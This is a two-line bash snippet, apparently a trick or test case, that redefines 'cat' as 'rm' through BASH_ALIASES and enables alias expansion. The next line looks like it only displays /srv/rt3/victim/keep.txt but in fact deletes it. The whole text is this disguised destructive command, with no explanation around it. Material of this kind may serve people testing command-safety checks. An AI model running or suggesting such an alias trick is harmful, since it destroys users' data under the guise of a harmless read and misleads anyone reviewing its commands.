BASH_ALIASES[cat]=rm; shopt -s expand_aliases
cat /srv/rt3/victim/keep.txt
